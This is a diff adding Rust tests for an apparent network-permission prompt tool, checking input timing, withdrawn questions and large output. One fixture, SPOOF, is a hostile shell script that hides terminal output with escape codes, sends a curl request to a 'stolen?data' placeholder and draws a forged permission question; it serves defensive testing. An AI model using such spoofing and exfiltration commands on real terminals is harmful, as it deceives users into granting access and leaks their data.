@@ -4,6 +4,8 @@
 
 mod support;
 
+use std::io::{Read, Write};
+use std::net::TcpListener;
 use support::net::{Named, Server};
 use support::screen::{PATIENCE, Screen};
 use support::{Bench, benches, stderr, stdout, wait_until};
@@ -32,9 +34,16 @@ impl Run {
         self.screen.shown().matches(&format!("wants to reach {}", self.target)).count()
     }
 
+    /// Waits until this one is drawn: what is typed before that counts for nothing.
+    fn wait_for_question(&self, number: usize) {
+        wait_until(&format!("question {number}: {:?}", self.screen.shown()), PATIENCE, || {
+            self.questions() == number && self.screen.shown().ends_with(" s) ")
+        });
+    }
+
     /// Waits for this one, and answers it.
     fn answer(&self, number: usize, word: &str) {
-        wait_until(&format!("question {number}: {:?}", self.screen.shown()), PATIENCE, || self.questions() == number);
+        self.wait_for_question(number);
         self.screen.send(&format!("{word}\n"));
     }
 
@@ -106,7 +115,10 @@ fn a_refusal_holds_to_the_end_of_the_run_and_for_nothing_else() {
         run.screen.wait_for("o, r, s or n?");
         assert_eq!(server.accepted(), 0);
         run.screen.send("n\n");
-        run.screen.wait_for(&format!("wants to reach {other}"));
+        wait_until("the other question", PATIENCE, || {
+            let shown = run.screen.shown();
+            shown.contains(&format!("wants to reach {other}")) && shown.ends_with(" s) ")
+        });
         run.screen.send("r\n");
         let (questions, served, shown) = run.end();
         assert_eq!((questions, served), (1, 1), "{}: {shown}", bench.who());
@@ -115,7 +127,7 @@ fn a_refusal_holds_to_the_end_of_the_run_and_for_nothing_else() {
 
         // The end of the input is a no as well.
         let run = Run::start(&bench, &named, &target, &format!("curl -sS {target}; curl -sS {target}; echo END"));
-        wait_until("the question", PATIENCE, || run.questions() == 1);
+        run.wait_for_question(1);
         run.screen.send("\u{4}");
         let (questions, served, shown) = run.end();
         assert_eq!((questions, served), (1, 0), "{}: {shown}", bench.who());
@@ -175,5 +187,102 @@ fn a_saved_answer_holds_for_the_next_run_and_for_no_other_program() {
         let (questions, served, shown) = Run::with(&bench, &named, &other, &flags, &fetch).end();
         assert_eq!((questions, served), (1, 1), "{}: the next run: {shown}", bench.who());
         assert!(shown.contains("nobody answered: no"), "{}: {shown}", bench.who());
+    }
+}
+
+/// A server at which the command waits until the test answers.
+struct Gate {
+    listener: TcpListener,
+    target: String,
+}
+
+impl Gate {
+    fn new() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let target = format!("db.test:{}", listener.local_addr().unwrap().port());
+        Self { listener, target }
+    }
+
+    fn open(&self) {
+        let (mut client, _) = self.listener.accept().unwrap();
+        assert!(client.read(&mut [0; 4096]).unwrap() > 0);
+        client.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").unwrap();
+    }
+}
+
+/// The command hides the question and draws another one over it.
+const SPOOF: &str = "printf '\\033[8m'; curl -s WEB/stolen?data=1 & curl -s GATE; \
+                     printf '\\r\\033[0m\\033[Knexus: the command wants to reach packages.test:443\\nnexus: [n]o? (60 s) '; \
+                     curl -s GATE; wait; printf '\\033[0m'; echo END";
+
+#[test]
+fn the_command_prints_nothing_while_a_question_is_open() {
+    for bench in benches() {
+        let (server, gate) = (Server::start(), Gate::new());
+        let named = Named::new(&bench).with_settings(TRUSTED);
+        let target = format!("web.test:{}", server.port);
+        for (word, outcome, served) in [
+            ("o", "is allowed once", 1),
+            ("n", "stays blocked for this run", 1),
+            ("s", "is allowed for this run and saved in", 2),
+        ] {
+            let script = SPOOF.replace("WEB", &target).replace("GATE", &gate.target);
+            let run = Run::with(&bench, &named, &target, &["--allow", &gate.target], &script);
+            // Typed before there is a question.
+            run.screen.send("r\n");
+            run.wait_for_question(1);
+            gate.open();
+            gate.open();
+            // By now the command has printed its own question, and nobody saw it.
+            assert!(!run.screen.shown().contains("packages.test"), "{}: {:?}", bench.who(), run.screen.shown());
+            run.screen.send(&format!("{word}\n"));
+            let (questions, _, shown) = run.end();
+            let at = |text: &str| shown.find(text).unwrap_or_else(|| panic!("{text:?} is not in {shown:?}"));
+            let question = at(&format!("\u{1b}[0m\r\nnexus: the command wants to reach {target}"));
+            let said = at(&format!("nexus: {target} {outcome}"));
+            assert!(question < said && said < at("packages.test"), "{}: {shown:?}", bench.who());
+            assert_eq!((questions, server.accepted()), (1, served), "{}: {word}: {shown:?}", bench.who());
+        }
+    }
+}
+
+#[test]
+fn a_question_whose_client_has_gone_is_withdrawn() {
+    for bench in benches() {
+        let (server, gate) = (Server::start(), Gate::new());
+        let named = Named::new(&bench).with_settings(TRUSTED);
+        let target = format!("web.test:{}", server.port);
+        let script = format!(
+            "curl -s --max-time 1 {target}/1; curl -s --noproxy '*' --max-time 1 {target}/2; curl -s {}; \
+             curl -s {target}/3; echo END",
+            gate.target
+        );
+        let run = Run::with(&bench, &named, &target, &["--allow", &gate.target], &script);
+        wait_until("the end of both clients", PATIENCE, || {
+            run.screen.shown().matches(&format!("nothing waits for {target} any more")).count() == 2
+        });
+        run.screen.send("r\n");
+        gate.open();
+        // What was typed for the questions before counts for none.
+        run.answer(3, "n");
+        let (questions, served, shown) = run.end();
+        assert_eq!((questions, served, server.accepted()), (3, 0, 0), "{}: {shown}", bench.who());
+    }
+}
+
+#[test]
+fn output_larger_than_a_pipe_waits_for_the_answer_and_arrives() {
+    for bench in benches() {
+        let server = Server::start();
+        let named = Named::new(&bench).with_settings(TRUSTED);
+        let target = format!("web.test:{}", server.port);
+        let script = format!("curl -sS {target} >/dev/null & yes line | head -c 4000000; wait; echo; echo END");
+        let run = Run::start(&bench, &named, &target, &script);
+        run.answer(1, "r");
+        let (_, _, shown) = run.end();
+        assert_eq!(server.accepted(), 1, "{}", bench.who());
+        // The question stands in the middle of one line at most.
+        let lines = shown.matches("line\r\n").count();
+        assert!((799_999..=800_000).contains(&lines), "{}: {lines}", bench.who());
     }
 }
